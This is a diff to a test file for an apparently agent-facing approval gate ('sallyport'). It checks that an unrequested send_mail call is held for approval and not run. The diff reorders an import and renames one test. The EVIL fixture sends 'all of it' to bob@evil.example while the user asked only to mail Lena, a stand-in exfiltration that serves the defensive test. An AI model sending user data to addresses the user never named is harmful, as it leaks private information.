@@ -1,14 +1,14 @@
 import { memoryStore, type Outcome, tool } from 'sallyport'
 import { describe, expect, test, vi } from 'vitest'
 import { z } from 'zod'
-import { ask, openMailbox, approvalOf, settled } from '../fixtures/mail.js'
+import { approvalOf, ask, openMailbox, settled } from '../fixtures/mail.js'
 import { aTool, codeOf, openGate, standingClock } from '../fixtures/open-gate.js'
 
 const LENA = { to: 'lena@acme.example', body: 'yes' }
 const EVIL = { to: 'bob@evil.example', body: 'all of it' }
 
 describe('a call that nothing vouches for', () => {
-  test('is held with a question, and does not run', async () => {
+  test('is held with an approval, and does not run', async () => {
     const { session, box, events } = openMailbox()
     session.userSaid('Send “yes” to lena@acme.example', { id: 'u1' })
     const outcome = await ask(session, 'send_mail', EVIL)
